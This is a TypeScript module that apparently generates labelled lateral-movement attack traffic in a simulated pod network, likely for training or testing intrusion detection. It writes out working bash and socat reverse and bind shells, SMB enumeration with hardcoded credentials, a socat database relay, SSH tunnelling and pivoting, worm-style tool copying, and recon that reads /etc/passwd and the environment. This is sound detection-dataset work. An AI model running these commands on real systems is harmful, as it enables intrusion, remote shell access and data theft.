import { accept, attackerBeside, lootFile, tcp } from './plan.ts'
import type { AttackPlan, Leg, Variant } from './plan.ts'
import type { World } from '../draw-world.ts'
import type { Place } from '../place.ts'
import { DATABASE_PASSWORD } from '../servers/servers.ts'

export type Movement = Omit<AttackPlan, 'service' | 'manner'>

export const movement = (tool: string, attacker: Place, victims: readonly Place[], legs: Leg[], command: string, seconds: number, helpers: NonNullable<AttackPlan['helpers']> = []): Movement =>
  ({ rate: null, class: 'LATERAL_MOVEMENT', tool, attackers: [attacker], command, helpers, victims: victims.map((pod) => pod.address), legs, seconds })

/** What an intruder looks at first, with pauses in which a person reads. */
export function recon (world: World): string {
  const { random } = world
  const looks = ['id', 'uname -a', 'ls -la / /etc', 'cat /etc/passwd', 'ps ax', 'ss -tan', 'ip address; ip route', 'cat /proc/mounts', `head -c ${random.magnitude(2000, 900_000)} /dev/urandom | base64`, 'find /etc -name "*.conf" 2>/dev/null', 'env']
  return random.sample(looks, random.integer(3, 8)).map((look) => `${look}; sleep ${random.magnitude(1, 25) / 10}`).join('; ')
}

/** An attacker and `count` further pods with a shell, all different. */
export function path (world: World, count: number): [Place, ...Place[]] {
  const hops = world.random.sample(world.shells, count)
  return [attackerBeside(world, ...hops), ...hops]
}

export const legsAlong = (pods: readonly Place[], port: number): Leg[] => pods.slice(1).map((pod, index) => tcp(pods[index] ?? pod, pod, [port]))

/** `command` at the end of a chain of SSH sessions, each opened from the one before; on the way, the intruder looks around. */
function nested (world: World, hops: readonly Place[], command: string): string {
  return [...hops].reverse().reduce((inner, pod) => `ssh alice@${pod.address} ${quote(`${recon(world)}; ${inner}`)}`, command)
}

export const quote = (text: string) => `'${text.replaceAll("'", String.raw`'\''`)}'`

function reverseShell (world: World, tool: string, connect: (address: string, port: number) => string): Movement {
  const [attacker, victim] = path(world, 1) as [Place, Place]
  const port = world.random.pick([4444, 9001, 1337, 443, 8081])
  const lines = recon(world).split('; ').map((line) => line.startsWith('sleep') ? line : `echo ${quote(line)}`).join('; ')
  const listener = `${accept(port)}(sleep 1.5; ${lines}; echo exit; sleep 0.5) | timeout 35 nc -l -n -p ${port} >/dev/null`
  const entry = world.random.chance(0.6)
  const command = `sleep 0.6; ${entry ? `ssh alice@${victim.address} ${quote(connect(attacker.address, port))}` : 'sleep 30'}`
  const helpers = [{ pod: attacker, command: listener }, ...(entry ? [] : [{ pod: victim, command: `sleep 0.8; ${connect(attacker.address, port)}` }])]
  return movement(tool, attacker, [victim], [tcp(victim, attacker, [port]), ...(entry ? [tcp(attacker, victim, [22])] : [])], command, 35, helpers)
}

export const LATERAL_MOVEMENTS: readonly Variant[] = [
  {
    name: 'smb',
    heldOut: false,
    service: 'smb',
    draw: (world) => {
      const files = world.pod('files')
      const attacker = attackerBeside(world, files)
      const tool = lootFile(world, attacker, world.random.magnitude(20_000, 3_000_000))
      const command = `rpcclient -U alice%wonder1 ${files.address} -c 'srvinfo; enumdomusers; netshareenumall; querydominfo'; sleep 1; smbclient //${files.address}/data -U alice%wonder1 -c 'put ${tool} service.exe; ls'; sleep 1.5; ssh alice@${files.address} ${quote(recon(world))}; smbclient //${files.address}/data -U bob%letmein -c 'get report${world.random.integer(1, 8)}.bin taken.bin; del service.exe'`
      return movement('smb and ssh', attacker, [files], [tcp(attacker, files, [445, 22])], `(${command}) >/dev/null 2>&1`, 40)
    },
  },
  {
    name: 'ssh-hops',
    heldOut: false,
    service: 'ssh',
    draw: (world) => {
      const pods = path(world, world.random.integer(1, 3))
      return movement('ssh hops', pods[0], pods.slice(1), legsAlong(pods, 22), `${nested(world, pods.slice(1), recon(world))} >/dev/null`, 45)
    },
  },
  {
    name: 'scp-tool',
    heldOut: false,
    service: 'ssh',
    draw: (world) => {
      const pods = path(world, 2)
      const [attacker, first, second] = pods as [Place, Place, Place]
      const tool = lootFile(world, attacker, world.random.magnitude(20_000, 6_000_000))
      const command = `scp -q ${tool} alice@${first.address}:tool; ssh alice@${first.address} ${quote(`${recon(world)}; scp -q tool bob@${second.address}:tool2 || scp -q tool alice@${second.address}:tool2; ssh alice@${second.address} ${quote(recon(world))}`)} >/dev/null`
      return movement('scp and run', attacker, [first, second], legsAlong(pods, 22), command, 45)
    },
  },
  { name: 'reverse-shell-bash', heldOut: false, service: 'shell', draw: (world) => reverseShell(world, 'bash reverse shell', (address, port) => `timeout 30 bash -c "bash -i >& /dev/tcp/${address}/${port} 0>&1"`) },
  { name: 'reverse-shell-socat', heldOut: false, service: 'shell', draw: (world) => reverseShell(world, 'socat reverse shell', (address, port) => `timeout 30 socat EXEC:/bin/bash TCP:${address}:${port}`) },
  {
    name: 'socat-relay',
    heldOut: false,
    service: 'postgres',
    draw: (world) => {
      const { random } = world
      const relay = random.pick(world.shells.filter((pod) => pod.name !== 'database'))
      const database = world.pod('database')
      const attacker = attackerBeside(world, relay, database)
      const port = random.integer(10_000, 14_000)
      const query = `PGPASSWORD=${DATABASE_PASSWORD} psql -q -h ${relay.address} -p ${port} -U postgres postgres -c 'select * from item limit ${random.magnitude(10, 20_000)}' >/dev/null`
      const command = `sleep 0.7; for i in $(seq ${random.integer(2, 8)}); do ${query}; sleep ${random.magnitude(3, 25) / 10}; done`
      return movement('socat relay', attacker, [relay, database], [tcp(attacker, relay, [port]), tcp(relay, database, [5432])], command, 35, [{ pod: relay, command: `${accept(port)}exec socat TCP-LISTEN:${port},fork,reuseaddr TCP:${database.address}:5432` }])
    },
  },
  {
    name: 'ssh-tunnel',
    heldOut: false,
    service: 'ssh',
    draw: (world) => {
      const { random } = world
      const pivot = random.pick(world.shells)
      const web = random.pick([world.pod('web'), ...world.apps].filter((pod) => pod !== pivot))
      const attacker = attackerBeside(world, pivot, web)
      const port = web.name === 'web' ? 80 : world.settings.appPort
      const command = `ssh -N -D 127.0.0.1:1080 alice@${pivot.address} & p=$!; sleep 1.2; for i in $(seq ${random.integer(4, 25)}); do curl -s -m 4 -o /dev/null --socks5 127.0.0.1:1080 http://${web.address}:${port}/page$i.html; sleep ${random.magnitude(2, 20) / 10}; done; kill $p`
      return movement('ssh -D', attacker, [pivot, web], [tcp(attacker, pivot, [22]), tcp(pivot, web, [port])], command, 40)
    },
  },
  {
    name: 'proxy-jump',
    heldOut: true,
    service: 'ssh',
    draw: (world) => {
      const pods = path(world, 2)
      const [attacker, first, second] = pods as [Place, Place, Place]
      return movement('ssh -J', attacker, [first, second], legsAlong(pods, 22), `for i in 1 2 3; do ssh -J alice@${first.address} alice@${second.address} ${quote(recon(world))} >/dev/null; sleep 1; done`, 40)
    },
  },
  {
    name: 'worm',
    heldOut: true,
    service: 'ssh',
    draw: (world) => {
      const { random } = world
      const victims = random.sample(world.shells, random.integer(3, 6))
      const attacker = attackerBeside(world, ...victims)
      const tool = lootFile(world, attacker, random.magnitude(20_000, 800_000))
      return movement('scp to many', attacker, victims, victims.map((pod) => tcp(attacker, pod, [22])), victims.map((pod) => `scp -q ${tool} alice@${pod.address}:x; ssh alice@${pod.address} 'sha256sum x; id; ss -tan' >/dev/null; sleep ${random.magnitude(2, 20) / 10}`).join('; '), 40)
    },
  },
  {
    name: 'bind-shell',
    heldOut: true,
    service: 'shell',
    draw: (world) => {
      const [attacker, victim] = path(world, 1) as [Place, Place]
      const port = world.random.pick([31337, 6666, 12345])
      const lines = recon(world).split('; ').map((line) => line.startsWith('sleep') ? line : `echo ${quote(line)}`).join('; ')
      return movement('bind shell', attacker, [victim], [tcp(attacker, victim, [port])], `sleep 0.8; (${lines}; echo exit) | socat - TCP:${victim.address}:${port} >/dev/null`, 30, [{ pod: victim, command: `${accept(port)}exec socat TCP-LISTEN:${port},reuseaddr EXEC:/bin/bash` }])
    },
  },
]
